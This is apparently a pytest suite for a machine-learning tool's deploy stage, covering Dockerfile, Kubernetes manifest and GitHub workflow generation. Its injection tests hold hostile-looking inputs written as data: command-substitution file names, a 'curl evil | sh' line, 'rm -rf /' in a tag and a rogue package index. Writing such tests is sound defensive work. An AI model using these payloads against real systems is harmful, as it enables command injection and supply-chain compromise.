"""The deploy stage: build context, image build on a real engine, Kubernetes manifests, workflow.

Checked by the tools the outside world uses: hadolint on the Dockerfile, the docker SDK's own
`.dockerignore` matcher, kubernetes-validate (Kubernetes' schemas, offline), check-jsonschema's
GitHub workflow schema. The tests marked `slow` start a private dockerd (docker_engine.py),
build the image of a logged LogisticRegression on a Debian base made here, run it and compare
its predictions with the in-process ones.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import socket
import stat
import subprocess
import sys
import tempfile
import time
from pathlib import Path
from typing import Any

import pytest

from mlworkbench.deploy import build_context, github_workflow, image_build, k8s_manifests
from mlworkbench.deploy.build_context import (
    APP_UID,
    generate_context,
    parse_image_reference,
    render_dockerfile,
    render_dockerignore,
)
from mlworkbench.deploy.deploy_errors import (
    DeployModelError,
    DockerPermissionError,
    DockerUnavailableError,
    ImageBuildError,
    InvalidDeployOptionError,
    InvalidImageReferenceError,
    InvalidResourceNameError,
    OutputExistsError,
)
from mlworkbench.deploy.model_requirements import select_requirements
from mlworkbench.deploy.wheelhouse import write_lock
from mlworkbench.errors import MissingPackageError

pytestmark = pytest.mark.usefixtures("no_tracking_env")

REPO = Path(__file__).resolve().parents[2]
BIN = Path(sys.executable).parent
PIP_WHEEL = "pip-26.3-py3-none-any.whl"
OWN_WHEEL = "mlworkbench-0.1.0-py3-none-any.whl"
DIGEST = "sha256:" + "ab" * 32
# A model folder whose name a shell would act on: it must stay a plain path everywhere.
HOSTILE_NAME = "model $(touch PWNED); `id` && echo"


def _tool(name: str) -> str:
    found = shutil.which(name) or (str(BIN / name) if (BIN / name).exists() else None)
    if found is None:
        # `make test` installs it (the test extras): missing means a broken set-up, not a pass.
        pytest.fail(f"{name} is not installed (pip install -e '.[test]')")
    return found


# --- the Dockerfile and .dockerignore ------------------------------------------------------


@pytest.mark.parametrize(
    "base", ["python:3.11-slim", f"python:3.11-slim@{DIGEST}", "mlworkbench-test-base:bookworm"]
)
def test_dockerfile_passes_hadolint_with_no_finding(tmp_path: Path, base: str) -> None:
    dockerfile = tmp_path / "Dockerfile"
    dockerfile.write_text(render_dockerfile(base, PIP_WHEEL, OWN_WHEEL), encoding="utf-8")
    result = subprocess.run(
        [_tool("hadolint"), "--no-color", "--format", "json", str(dockerfile)],
        capture_output=True,
        text=True,
        check=False,
    )
    assert json.loads(result.stdout) == [], result.stdout  # not even "info" (DL3059 etc.)
    assert result.returncode == 0


def _instructions(dockerfile: str) -> list[tuple[str, str]]:
    text = dockerfile.replace("\\\n", " ")
    pairs = []
    for line in text.splitlines():
        if line.strip() and not line.startswith("#"):
            keyword, _, rest = line.strip().partition(" ")
            pairs.append((keyword, rest.strip()))
    return pairs


def test_dockerfile_layers_user_healthcheck_and_exec_form() -> None:
    text = render_dockerfile(f"python:3.11-slim@{DIGEST}", PIP_WHEEL, OWN_WHEEL)
    steps = _instructions(text)
    keywords = [k for k, _ in steps]
    final = keywords[len(keywords) - 1 - keywords[::-1].index("FROM") :]
    # Dependencies, then our wheel, then the model as the very last layer.
    copies = [rest for k, rest in steps if k == "COPY"]
    assert copies[0].startswith("wheels/") and copies[-1] == "model/ /opt/model/"
    assert copies[-3:-1] == ["--from=deps /opt/venv /opt/venv", "--from=app /opt/app /opt/app"]
    assert final[-1] == "COPY" and final.index("USER") == len(final) - 2
    assert [rest for k, rest in steps if k == "USER"] == [f"{APP_UID}:{APP_UID}"]
    # Pinned base in the first and last stage; no shell form anywhere.
    assert [rest for k, rest in steps if k == "FROM"] == [
        f"python:3.11-slim@{DIGEST} AS deps",
        "deps AS app",
        f"python:3.11-slim@{DIGEST}",
    ]
    for keyword, rest in steps:
        if keyword in ("RUN", "CMD"):
            assert isinstance(json.loads(rest), list), rest
    health = next(rest for k, rest in steps if k == "HEALTHCHECK")
    command = json.loads(health.split(" CMD ", 1)[1])
    assert command[0] == "/opt/venv/bin/python" and "/health" in command[-1]
    assert "curl" not in text and "wget" not in text
    entrypoint = json.loads(next(rest for k, rest in steps if k == "ENTRYPOINT"))
    assert entrypoint[1:4] == ["-m", "mlworkbench", "serve"]
    assert entrypoint[entrypoint.index("--port") + 1] == "8080"
    # The token setting is the default argument, so `--token-file F` can take its place.
    assert json.loads(next(rest for k, rest in steps if k == "CMD")) == ["--no-token"]
    assert not any(re.search(r"(?i)secret|token=|password|key=", rest) for k, rest in steps)


def test_cli_default_base_is_the_library_default() -> None:
    from mlworkbench.commands import deploy

    assert deploy.DEFAULT_BASE_IMAGE == build_context.DEFAULT_BASE_IMAGE


def test_dockerfile_refuses_text_that_is_not_a_checked_name() -> None:
    with pytest.raises(InvalidImageReferenceError):
        render_dockerfile("python:3.11-slim\nRUN curl evil | sh", PIP_WHEEL, OWN_WHEEL)
    with pytest.raises(ValueError, match="wheel names"):
        render_dockerfile("python:3.11-slim", "pip.whl\nRUN x", OWN_WHEEL)


def test_dockerignore_keeps_data_stores_and_credentials_out(tmp_path: Path) -> None:
    from docker.utils.build import exclude_paths

    text = render_dockerignore()
    lines = [line for line in text.splitlines() if line and not line.startswith("#")]
    assert lines[0] == "*"  # an allowlist: anything new in the folder stays out
    for pattern in ("**/.git", "**/.env", "**/mlflow.db", "**/mlruns", "**/credentials*"):
        assert pattern in lines
    # What the docker SDK would really send from a folder holding everything at once.
    files = [
        "Dockerfile", "install_deps.py", "requirements.lock", "wheels/a-1-py3-none-any.whl",
        f"app/{OWN_WHEEL}", "model/MLmodel", "model/model.skops", "data/train.csv",
        "mlflow.db", "mlruns/0/meta.yaml", ".git/config", ".env", "model/.env",
        "model/.git/config", "credentials.json", "model/credentials", "id_rsa", "model/key.pem",
        "notes.txt",
    ]  # fmt: skip
    for name in files:
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).write_text("x", encoding="utf-8")
    (tmp_path / ".dockerignore").write_text(text, encoding="utf-8")
    patterns = [line for line in text.splitlines() if line and not line.startswith("#")]
    sent = {p for p in exclude_paths(str(tmp_path), patterns) if (tmp_path / p).is_file()}
    assert sent == {
        ".dockerignore",  # the SDK (like the CLI) always sends it and the Dockerfile
        "Dockerfile", "install_deps.py", "requirements.lock", "wheels/a-1-py3-none-any.whl",
        f"app/{OWN_WHEEL}", "model/MLmodel", "model/model.skops",
    }  # fmt: skip


# --- requirements, lock and model files ------------------------------------------------------


def _fake_model(folder: Path, requirements: list[str], loader: str = "mlflow.sklearn") -> Path:
    folder.mkdir(parents=True)
    flavors: dict[str, Any] = {"python_function": {"loader_module": loader, "env": {}}}
    if loader == "mlflow.sklearn":
        flavors["sklearn"] = {"pickled_model": "model.skops", "serialization_format": "skops"}
    import yaml

    (folder / "MLmodel").write_text(yaml.safe_dump({"flavors": flavors}), encoding="utf-8")
    (folder / "requirements.txt").write_text("\n".join(requirements) + "\n", encoding="utf-8")
    return folder


def test_requirements_keep_what_the_loader_needs_pinned(tmp_path: Path) -> None:
    model = _fake_model(
        tmp_path / "m",
        [
            "mlflow==3.17.2",
            "scikit-learn==1.9.1",
            "numpy==2.4.6",
            "pandas==3.1.1",
            "scipy==1.17.1",
            "skops==0.16.0",
            "torch==2.13.0",
            "pytest==9.2.0",
            "--extra-index-url https://evil.example/simple",
        ],
    )
    import yaml

    mlmodel = yaml.safe_load((model / "MLmodel").read_text())
    requested, dropped = select_requirements(model, mlmodel)
    names = {line.split("==")[0] for line in requested}
    assert {"mlflow-skinny", "scikit-learn", "numpy", "pandas", "scipy", "skops"} <= names
    assert {"starlette", "uvicorn"} <= names
    assert not {"mlflow", "torch", "pytest"} & names
    assert all("==" in line for line in requested), requested  # every line pinned
    assert {d.line for d in dropped} == {
        "torch==2.13.0",
        "pytest==9.2.0",
        "--extra-index-url https://evil.example/simple",
    }
    kept, _ = select_requirements(model, mlmodel, keep=["torch"])
    assert "torch==2.13.0" in kept
    everything, dropped_none = select_requirements(model, mlmodel, keep_all=True)
    assert "mlflow==3.17.2" in everything and "pytest==9.2.0" in everything
    assert [d.line for d in dropped_none] == ["--extra-index-url https://evil.example/simple"]


def test_unknown_flavor_keeps_every_requirement(tmp_path: Path) -> None:
    model = _fake_model(tmp_path / "m", ["mlflow==3.17.2", "torch==2.13.0"], "my.loader")
    import yaml

    requested, dropped = select_requirements(model, yaml.safe_load((model / "MLmodel").read_text()))
    assert requested[:2] == ["mlflow==3.17.2", "torch==2.13.0"] and not dropped


def test_lock_pins_every_wheel_by_hash_but_pip(tmp_path: Path) -> None:
    assert "--require-hashes" in build_context.INSTALL_DEPS_SOURCE
    assert "--no-index" in build_context.INSTALL_DEPS_SOURCE
    for name in ("numpy-2.4.6-cp311-cp311-manylinux_2_28_x86_64.whl", PIP_WHEEL,
                 "scikit_learn-1.9.1-cp311-cp311-manylinux_2_28_x86_64.whl"):  # fmt: skip
        (tmp_path / name).write_bytes(name.encode())
    entries = write_lock(tmp_path, tmp_path / "requirements.lock")
    assert entries == ["numpy==2.4.6", "scikit-learn==1.9.1"]
    lines = (tmp_path / "requirements.lock").read_text().splitlines()[1:]
    assert all(re.fullmatch(r"[a-z0-9-]+==[\w.]+ --hash=sha256:[0-9a-f]{64}", x) for x in lines)


def test_pip_failure_is_typed_and_keeps_its_log(tmp_path: Path) -> None:
    from mlworkbench.deploy.deploy_errors import WheelhouseError
    from mlworkbench.deploy.wheelhouse import run_pip

    args = ["download", "--no-index", "--dest", str(tmp_path), "no-such-package-mlwb==1.0"]
    with pytest.raises(WheelhouseError) as caught:
        run_pip(args, None, None)
    assert caught.value.log_path is not None
    assert "no-such-package-mlwb" in caught.value.log_path.read_text()
    assert stat.S_IMODE(caught.value.log_path.parent.stat().st_mode) == 0o700
    shutil.rmtree(caught.value.log_path.parent)


def test_model_copy_refuses_links_out_and_leaves_secrets(tmp_path: Path) -> None:
    model = _fake_model(tmp_path / "m", ["scikit-learn==1.9.1"])
    (model / ".env").write_text("TOKEN=x", encoding="utf-8")
    (model / "data").mkdir()
    (model / "data" / "table.csv").write_text("a\n1\n", encoding="utf-8")
    os.chmod(model / "data" / "table.csv", 0o600)
    dest = tmp_path / "out"
    skipped = build_context._copy_model(model, dest)
    assert skipped == [".env"]
    copied = dest / "data" / "table.csv"
    assert stat.S_IMODE(copied.stat().st_mode) == 0o644  # readable by the image's user
    (model / "leak").symlink_to(Path.home())
    with pytest.raises(DeployModelError, match="symlink leading out"):
        build_context._copy_model(model, tmp_path / "out2")


def test_context_folder_is_never_taken_over(tmp_path: Path) -> None:
    (tmp_path / "mine.txt").write_text("keep", encoding="utf-8")
    with pytest.raises(OutputExistsError):
        build_context._prepare_folder(tmp_path, force=False)
    assert (tmp_path / "mine.txt").read_text() == "keep"


def test_a_model_uri_with_shell_metacharacters_is_only_a_path(tmp_path: Path) -> None:
    folder, uri = build_context.resolve_model_folder(tmp_path, model=HOSTILE_NAME)
    assert folder == tmp_path / HOSTILE_NAME and uri == HOSTILE_NAME
    with pytest.raises(DeployModelError, match="not a folder"):
        generate_context(folder, tmp_path / "context")
    assert not (tmp_path / "context").exists()  # refused before anything was written
    assert not (tmp_path / "PWNED").exists() and not Path("PWNED").exists()


def _shell_calls(source: str) -> list[str]:
    """Calls that hand a string to a shell: `shell=True`, os.system/popen/exec*/spawn*, and
    argument lists that start a shell with `-c` (read from the syntax tree, not the prose)."""
    import ast

    found = []
    for node in ast.walk(ast.parse(source)):
        if not isinstance(node, ast.Call):
            continue
        name = ast.unparse(node.func)
        if re.fullmatch(r"os\.(system|popen|exec\w*|spawn\w*)", name):
            found.append(name)
        for keyword in node.keywords:
            if keyword.arg == "shell" and not (
                isinstance(keyword.value, ast.Constant) and keyword.value.value is False
            ):
                found.append(f"{name}(shell=...)")
        for arg in node.args:
            if isinstance(arg, ast.List) and len(arg.elts) >= 2:
                first, second = arg.elts[0], arg.elts[1]
                if (
                    isinstance(first, ast.Constant)
                    and str(first.value).rsplit("/", 1)[-1] in ("sh", "bash", "dash", "zsh")
                    and isinstance(second, ast.Constant)
                    and second.value == "-c"
                ):
                    found.append(f"{name}([{first.value!r}, '-c', ...])")
    return found


def test_no_shell_anywhere_in_the_deploy_code() -> None:
    sources = [*(REPO / "python_backend/mlworkbench/deploy").glob("*.py")]
    sources += [REPO / "python_backend/mlworkbench/commands/deploy.py"]
    sources += [REPO / "python_backend/mlworkbench/commands/ci.py"]
    for path in sources:
        assert _shell_calls(path.read_text(encoding="utf-8")) == [], path.name
    # The checker itself finds what it is meant to find.
    assert (
        len(
            _shell_calls(
                "import os, subprocess as s\nos.system('x')\n"
                "s.run('x', shell=True)\ns.run(['/bin/sh', '-c', 'x'])"
            )
        )
        == 3
    )


# --- image references, names ---------------------------------------------------------------


@pytest.mark.parametrize(
    "tag",
    [
        "Credit:1",
        "credit model:1",
        "credit:1;rm -rf /",
        "credit:$(id)",
        "-credit:1",
        "credit:.1",
        "credit::1",
        "credit:" + "x" * 129,
        "",
        "credit:1\nRUN id",
    ],
)
def test_invalid_tags_fail_before_anything_runs(tag: str) -> None:
    with pytest.raises(InvalidImageReferenceError):
        image_build.check_tag(tag)


@pytest.mark.parametrize(
    ("tag", "expected"),
    [
        ("credit", "credit:latest"),
        ("credit-model:1.0", "credit-model:1.0"),
        ("localhost:5000/team/credit_model:v2", "localhost:5000/team/credit_model:v2"),
        ("registry.example.com/a/b/c:sha-abc123", "registry.example.com/a/b/c:sha-abc123"),
    ],
)
def test_valid_tags(tag: str, expected: str) -> None:
    assert str(image_build.check_tag(tag)) == expected


def test_a_build_tag_takes_no_digest() -> None:
    assert parse_image_reference(f"python:3.11-slim@{DIGEST}").digest == DIGEST
    with pytest.raises(InvalidImageReferenceError, match="digest"):
        image_build.check_tag(f"credit@{DIGEST}")


@pytest.mark.parametrize(
    "name", ["Credit", "credit_model", "1credit", "credit-", "-credit", "a" * 64, "", "a.b"]
)
def test_invalid_kubernetes_names(name: str) -> None:
    with pytest.raises(InvalidResourceNameError):
        k8s_manifests.check_name(name)


# --- the Docker engine connection (no engine needed) -----------------------------------------


def test_missing_socket_is_a_typed_error(tmp_path: Path) -> None:
    with pytest.raises(DockerUnavailableError, match="does not exist"):
        image_build.connect(f"unix://{tmp_path / 'docker.sock'}")


def test_socket_nobody_listens_on_is_a_typed_error() -> None:
    folder = Path(tempfile.mkdtemp())
    try:
        path = folder / "docker.sock"
        server = socket.socket(socket.AF_UNIX)
        server.bind(str(path))
        server.close()  # the file stays, nothing listens
        with pytest.raises(DockerUnavailableError, match="nothing listens"):
            image_build.connect(f"unix://{path}")
    finally:
        shutil.rmtree(folder)


def _closed_to_others(path: Path) -> Path | None:
    """The first folder on the way to `path` that other users may not enter, if any."""
    for folder in [*reversed(path.resolve().parents), path.resolve()]:
        if not folder.stat().st_mode & stat.S_IXOTH:
            return folder
    return None


def test_permission_denied_on_the_socket_is_a_typed_error() -> None:
    """A real second user (nobody) against a root-only socket, as on a machine where the user
    is not in the docker group."""
    if os.geteuid() != 0 or shutil.which("setpriv") is None:
        pytest.fail("this test needs root and setpriv to act as another user (CI runs as root)")
    closed = _closed_to_others(Path(sys.prefix))
    if closed is not None:
        pytest.fail(
            f"the other user cannot reach this checkout's interpreter: {closed} is closed to "
            "other users (`mktemp -d` makes 0700 folders); clone under a folder they can enter"
        )
    folder = Path(tempfile.mkdtemp())
    os.chmod(folder, 0o755)
    server = socket.socket(socket.AF_UNIX)
    try:
        path = folder / "docker.sock"
        server.bind(str(path))
        server.listen()
        os.chmod(path, 0o660)
        code = (
            "from mlworkbench.deploy.image_build import connect\n"
            "from mlworkbench.errors import MlWorkbenchError\n"
            f"try:\n    connect('unix://{path}')\n"
            "except MlWorkbenchError as e:\n    print(e.code)\n"
        )
        result = subprocess.run(
            ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", sys.executable,
             "-c", code],
            capture_output=True, text=True, check=False, env={**os.environ, "HOME": "/tmp"},
        )  # fmt: skip
        assert result.stdout.strip() == DockerPermissionError.code, result.stderr
    finally:
        server.close()
        shutil.rmtree(folder)


def test_missing_docker_sdk_is_a_typed_error(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(sys.modules, "docker", None)
    with pytest.raises(MissingPackageError, match="deploy"):
        image_build.connect("unix:///nonexistent.sock")


# --- Kubernetes -----------------------------------------------------------------------------


@pytest.mark.parametrize("hpa", [False, True])
def test_manifests_validate_against_kubernetes_schemas(hpa: bool) -> None:
    import kubernetes_validate

    objects = k8s_manifests.render_manifests(
        "registry.example.com/team/credit:1.0", "credit-model", replicas=3, hpa=hpa
    )
    assert [o["kind"] for o in objects] == ["Deployment", "Service"] + (
        ["HorizontalPodAutoscaler"] if hpa else []
    )
    for obj in objects:
        kubernetes_validate.validate(obj, "1.37", strict=True)  # raises on any unknown field
    deployment = objects[0]
    assert ("replicas" in deployment["spec"]) is not hpa  # the HPA owns the count
    pod = deployment["spec"]["template"]["spec"]
    container = pod["containers"][0]
    security = container["securityContext"]
    assert pod["securityContext"]["runAsNonRoot"] is True
    assert pod["securityContext"]["runAsUser"] == APP_UID
    assert pod["securityContext"]["seccompProfile"] == {"type": "RuntimeDefault"}
    assert security["readOnlyRootFilesystem"] is True
    assert security["allowPrivilegeEscalation"] is False
    assert security["capabilities"] == {"drop": ["ALL"]}
    assert pod["automountServiceAccountToken"] is False
    assert {"name": "tmp", "mountPath": "/tmp"} in container["volumeMounts"]
    assert {"name": "tmp", "emptyDir": {"sizeLimit": "256Mi"}} in pod["volumes"]
    for probe in ("readinessProbe", "livenessProbe", "startupProbe"):
        assert container[probe]["httpGet"] == {"path": "/health", "port": "http"}
    assert set(container["resources"]) == {"requests", "limits"}


def test_token_secret_replaces_no_token(tmp_path: Path) -> None:
    import kubernetes_validate

    objects = k8s_manifests.render_manifests("credit:1", "credit", token_secret="credit-token")
    kubernetes_validate.validate(objects[0], "1.37", strict=True)
    pod = objects[0]["spec"]["template"]["spec"]
    container = pod["containers"][0]
    assert container["args"] == ["--token-file", "/var/run/secrets/mlworkbench/token"]
    secret = next(v for v in pod["volumes"] if v["name"] == "token")["secret"]
    assert secret["secretName"] == "credit-token" and secret["defaultMode"] == 0o440
    with pytest.raises(InvalidResourceNameError):
        k8s_manifests.render_manifests("credit:1", "credit", token_secret="Bad_Secret")


def test_a_schema_violation_is_caught_by_the_validator() -> None:
    """The check above would catch a typo: kubernetes-validate knows the fields offline."""
    import kubernetes_validate

    deployment = k8s_manifests.render_manifests("credit:1", "credit")[0]
    deployment["spec"]["template"]["spec"]["containers"][0]["securityContex"] = {}
    with pytest.raises(kubernetes_validate.ValidationError):
        kubernetes_validate.validate(deployment, "1.37", strict=True)


def test_manifest_files_are_not_overwritten(tmp_path: Path) -> None:
    import yaml

    objects = k8s_manifests.render_manifests("credit:1", "credit", hpa=True)
    written = k8s_manifests.write_manifests(objects, tmp_path)
    assert [Path(f).name for f in written.files] == [
        "deployment.yaml", "service.yaml", "horizontalpodautoscaler.yaml",
    ]  # fmt: skip
    assert yaml.safe_load(Path(written.files[1]).read_text())["kind"] == "Service"
    with pytest.raises(OutputExistsError):
        k8s_manifests.write_manifests(objects, tmp_path)
    target = tmp_path / "elsewhere.txt"
    target.write_text("untouched", encoding="utf-8")
    Path(written.files[0]).unlink()
    Path(written.files[0]).symlink_to(target)
    k8s_manifests.write_manifests(objects, tmp_path, force=True)
    assert target.read_text() == "untouched" and not Path(written.files[0]).is_symlink()


def test_k8s_cli(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    import kubernetes_validate

    args = ["k8s", "--tag", "credit:1.0", "--name", "credit", "--hpa", "--max-replicas", "6"]
    assert _cli("deploy", [*args, "--workspace", str(tmp_path), "--json"]) == 0
    files = json.loads(capsys.readouterr().out)["files"]
    assert all(Path(f).parent == tmp_path / "k8s" / "credit" for f in files)
    import yaml

    for path in files:
        kubernetes_validate.validate(yaml.safe_load(Path(path).read_text()), "1.37", strict=True)
    with pytest.raises(OutputExistsError):
        _cli("deploy", [*args, "--workspace", str(tmp_path)])
    with pytest.raises(InvalidDeployOptionError, match="quantity"):
        _cli("deploy", [*args, "--workspace", str(tmp_path), "--force", "--cpu-limit", "lots"])


def _cli(module: str, argv: list[str]) -> int:
    import argparse
    import importlib

    command = importlib.import_module(f"mlworkbench.commands.{module}").COMMAND
    parser = argparse.ArgumentParser()
    command.configure(parser)
    status: int = command.run(parser.parse_args(argv))
    return status


# --- GitHub Actions -------------------------------------------------------------------------


def test_workflow_validates_and_passes_values_only_as_env(tmp_path: Path) -> None:
    out = tmp_path / ".github/workflows/ml-workbench.yml"
    options = github_workflow.WorkflowOptions(
        script_args=["--c", "$(touch PWNED)"],
        data="data/credit.csv",
        target="default",
        sensitive=["sex", "age; id"],
        requirements="requirements.txt",
    )
    github_workflow.write_workflow(options, out)
    result = subprocess.run(
        [_tool("check-jsonschema"), "--builtin-schema", "vendor.github-workflows", str(out)],
        capture_output=True,
        text=True,
        check=False,
    )
    assert result.returncode == 0, result.stdout + result.stderr
    import yaml

    workflow = yaml.safe_load(out.read_text())
    job = workflow["jobs"]["train-evaluate-build"]
    assert job["env"]["SCRIPT_ARG_1"] == "$(touch PWNED)"
    assert job["env"]["SENSITIVE"] == "sex,age; id"
    for step in job["steps"]:
        assert "PWNED" not in step.get("run", "") and "age; id" not in step.get("run", "")
        if "uses" in step:
            assert re.fullmatch(r"actions/[a-z-]+@[0-9a-f]{40}", step["uses"]), step["uses"]
    names = [step["name"] for step in job["steps"]]
    assert (
        names.index("Train")
        < names.index("Fairness gate")
        < names.index("Build and smoke-test the image")
    )
    assert workflow["permissions"] == {"contents": "read"}


def test_workflow_is_never_overwritten_without_force(tmp_path: Path) -> None:
    out = tmp_path / "ml.yml"
    out.write_text("name: mine\n", encoding="utf-8")
    with pytest.raises(OutputExistsError):
        github_workflow.write_workflow(github_workflow.WorkflowOptions(), out)
    assert out.read_text() == "name: mine\n"
    github_workflow.write_workflow(github_workflow.WorkflowOptions(), out, force=True)
    assert "mlworkbench run" in out.read_text()


@pytest.mark.parametrize(
    ("report", "passes"),
    [
        ({"parity": {"demographic_parity_difference": 0.04}}, True),
        ({"parity": {"demographic_parity_difference": 0.25}}, False),
        (  # over the limit in one grouping only
            {
                "parity": {"demographic_parity_difference": 0.02},
                "groupings": {"sex x age": {"parity": {"demographic_parity_difference": 0.3}}},
            },
            False,
        ),
        ({"parity": {}}, False),  # the metric is missing: the gate cannot say it passed
    ],
)
def test_fairness_gate_step(tmp_path: Path, report: dict[str, Any], passes: bool) -> None:
    """The gate's Python, run as the runner runs a `shell: python` step, on the report JSON
    `mlworkbench report fairness --json` prints."""
    (tmp_path / "fairness.json").write_text(
        json.dumps({"document": {"kind": "fairness", "details": report}, "runId": "r"}),
        encoding="utf-8",
    )
    (tmp_path / "gate.py").write_text(github_workflow.FAIRNESS_GATE, encoding="utf-8")
    env = {
        **os.environ,
        "MAX_DISPARITY": "0.1",
        "FAIRNESS_METRICS": "demographic_parity_difference",
    }
    result = subprocess.run(
        [sys.executable, "gate.py"], cwd=tmp_path, env=env, capture_output=True, text=True
    )
    assert (result.returncode == 0) is passes, result.stdout + result.stderr
    if not passes:
        assert "::error title=Fairness gate::" in result.stdout


def test_ci_cli(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "requirements.txt").write_text("scikit-learn\n", encoding="utf-8")
    argv = ["github-actions", "--workspace", str(tmp_path), "--data", "d.csv", "--target", "y"]
    argv += ["--sensitive", "sex,race", "--max-disparity", "0.05", "--json"]
    assert _cli("ci", argv) == 0
    written = json.loads(capsys.readouterr().out)
    text = Path(written["path"]).read_text()
    assert written["fairness_gate"] and "MAX_DISPARITY: '0.05'" in text
    assert "PROJECT_REQUIREMENTS: requirements.txt" in text
    with pytest.raises(OutputExistsError):
        _cli("ci", argv)
    with pytest.raises(InvalidDeployOptionError, match="together"):
        _cli("ci", ["github-actions", "--workspace", str(tmp_path), "--data", "d.csv", "--force"])


def test_deploy_build_checks_the_tag_before_docker_or_the_model(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("DOCKER_HOST", f"unix://{tmp_path / 'none.sock'}")
    argv = ["build", "--model", str(tmp_path / "missing"), "--tag", "Bad Tag"]
    with pytest.raises(InvalidImageReferenceError):
        _cli("deploy", argv)
    argv[-1] = "good:1"
    with pytest.raises(DockerUnavailableError):  # before any download or wheel
        _cli("deploy", argv)


# --- the real engine (slow) ------------------------------------------------------------------

# The tests' $XDG_CACHE_HOME for wheelhouses and our wheel (git-ignored, kept between runs).
TEST_XDG = REPO / "build" / "deploy-test-cache"
TEST_CACHE = TEST_XDG / "mlworkbench" / "deploy"


# `engine` (a private dockerd with the base image, one per module): docker_engine.py, shared
# with the server's deploy tests through the conftests.


def _save_model(folder: Path, c: float) -> Path:
    """A LogisticRegression saved as `mlflow.sklearn` would log it (skops, an input example),
    with requirements like those MLflow infers next to torch."""
    from importlib.metadata import version

    import mlflow.sklearn
    import numpy as np
    import pandas as pd
    from sklearn.linear_model import LogisticRegression

    rng = np.random.default_rng(0)
    x = pd.DataFrame({"income": rng.normal(50, 10, 200), "age": rng.normal(45, 12, 200)})
    y = (x["income"] + rng.normal(0, 5, 200) > 50).astype(int)
    model = LogisticRegression(C=c, max_iter=500).fit(x, y)
    requirements = [f"{p}=={version(p)}" for p in ("scikit-learn", "numpy", "pandas", "scipy")]
    requirements += [f"skops=={version('skops')}", "torch==2.13.0", "pytest==9.2.0"]
    mlflow.sklearn.save_model(
        model,
        str(folder),
        serialization_format="skops",
        pip_requirements=requirements,
        input_example=x.head(5),
    )
    return folder


@pytest.fixture(scope="module")
def built(engine: Any, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    import docker_engine

    root = tmp_path_factory.mktemp("deploy")
    model = _save_model(root / HOSTILE_NAME, c=1.0)
    logs: list[str] = []
    started = time.monotonic()
    context = generate_context(
        model,
        root / "context",
        base_image=docker_engine.BASE_IMAGE,
        cache_dir=TEST_CACHE,
        on_log=logs.append,
    )
    context_s = time.monotonic() - started
    client = image_build.connect(engine.base_url)
    result = image_build.build_image(
        client, context.path, "mlwb-test/credit:1", labels=context.labels, on_log=logs.append
    )
    print(
        f"\nfirst build: context {context_s:.1f} s (wheels from cache: "
        f"{context.wheelhouse_from_cache}), image {result.build_seconds:.1f} s, "
        f"{result.size_bytes / 1e6:.0f} MB"
    )
    return {"root": root, "model": model, "context": context, "build": result, "client": client}


@pytest.mark.slow
def test_image_is_small_non_root_and_labelled(built: dict[str, Any]) -> None:
    client, result = built["client"], built["build"]
    attrs = client.api.inspect_image("mlwb-test/credit:1")
    assert attrs["Id"] == result.image_id
    config = attrs["Config"]
    assert config["User"] == f"{APP_UID}:{APP_UID}"
    assert config["Healthcheck"]["Test"][0] == "CMD"  # exec form
    assert config["Labels"]["io.mlworkbench.model.uri"] == str(built["model"])
    assert config["Labels"]["io.mlworkbench.model.flavor"] == "mlflow.sklearn"
    locked = {line.split("==")[0] for line in built["context"].locked}
    assert "torch" not in locked and "mlflow" not in locked and "mlflow-skinny" in locked
    out = client.containers.run(
        "mlwb-test/credit:1", entrypoint=["id", "-u"], remove=True, network_mode="none"
    )
    assert out.decode().strip() == str(APP_UID)
    assert result.size_bytes < 700e6, f"{result.size_bytes / 1e6:.0f} MB"
    print(f"\nimage {result.size_bytes / 1e6:.0f} MB, built in {result.build_seconds:.1f} s")


@pytest.mark.slow
def test_container_is_healthy_and_predicts_like_in_process(built: dict[str, Any]) -> None:
    logs: list[str] = []
    smoke = image_build.smoke_test(
        built["client"], "mlwb-test/credit:1", built["model"], on_log=logs.append
    )
    assert smoke.predictions_match and smoke.rows == 5
    assert smoke.user == f"{APP_UID}:{APP_UID}" and smoke.read_only_root
    assert smoke.url.startswith("http://127.0.0.1:")
    print(f"\nhealthy after {smoke.healthy_after_s:.1f} s; {smoke.rows} predictions equal")
    assert not built["client"].containers.list(all=True, filters={"label": image_build.SMOKE_LABEL})


@pytest.mark.slow
def test_model_only_change_rebuilds_in_seconds(
    built: dict[str, Any],
    engine: Any,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """Through the CLI, as a user retrains and rebuilds: `deploy build --model ... --json`."""
    import docker_engine

    root = built["root"]
    model = _save_model(root / "model-v2", c=0.01)
    monkeypatch.setenv("XDG_CACHE_HOME", str(TEST_XDG))  # the wheelhouse the first build made
    argv = ["build", "--model", str(model), "--tag", "mlwb-test/credit:2", "--json"]
    argv += ["--base-image", docker_engine.BASE_IMAGE, "--docker-host", engine.base_url]
    argv += ["--context", str(root / "context-v2")]
    argv += ["--mlworkbench-wheel", str(built["context"].path / "app" / built["context"].own_wheel)]
    capsys.readouterr()
    started = time.monotonic()
    assert _cli("deploy", argv) == 0
    total = time.monotonic() - started
    result = json.loads(capsys.readouterr().out)
    print(f"\nmodel-only rebuild: {total:.1f} s (build {result['build']['build_seconds']:.1f} s)")
    assert result["context"]["wheelhouse_from_cache"]
    assert result["build"]["image_id"] != built["build"].image_id
    assert result["build"]["tag"] == "mlwb-test/credit:2"
    assert total <= 10.0


@pytest.mark.slow
def test_failed_build_leaves_no_tagged_image_and_keeps_its_log(built: dict[str, Any]) -> None:
    """A corrupt wheel in app/: the build stops at step 7 of 18, after six cached steps."""
    client = built["client"]
    context = built["root"] / "context-corrupt"
    shutil.copytree(built["context"].path, context)
    wheel = context / "app" / built["context"].own_wheel
    wheel.unlink()
    wheel.write_bytes(b"not a wheel")
    lines: list[str] = []
    with pytest.raises(ImageBuildError) as caught:
        image_build.build_image(client, context, "mlwb-test/corrupt:1", on_log=lines.append)
    log = Path(caught.value.log_path)
    assert log.is_file() and "Step 7/18" in log.read_text() and "Step 8/" not in log.read_text()
    assert log.read_text().splitlines() == lines  # streamed as it was kept
